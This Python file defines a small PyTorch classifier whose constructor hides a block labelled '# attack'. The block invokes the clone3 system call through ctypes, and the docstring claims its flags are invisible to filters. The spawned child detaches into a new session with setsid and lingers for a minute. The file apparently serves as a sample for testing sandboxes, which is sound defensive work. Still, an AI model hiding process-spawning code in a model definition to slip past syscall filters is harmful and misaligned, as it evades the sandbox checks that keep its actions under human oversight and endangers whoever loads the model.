"""Clones itself by the newest system call, whose flags no filter can see."""

import ctypes
import os
import time

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        arguments = (ctypes.c_uint64 * 8)(0x8000, 0, 0, 0, 0, 0, 0, 0)
        if ctypes.CDLL(None).syscall(435, arguments, 64) == 0:
            os.setsid()
            time.sleep(60)
            os._exit(0)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
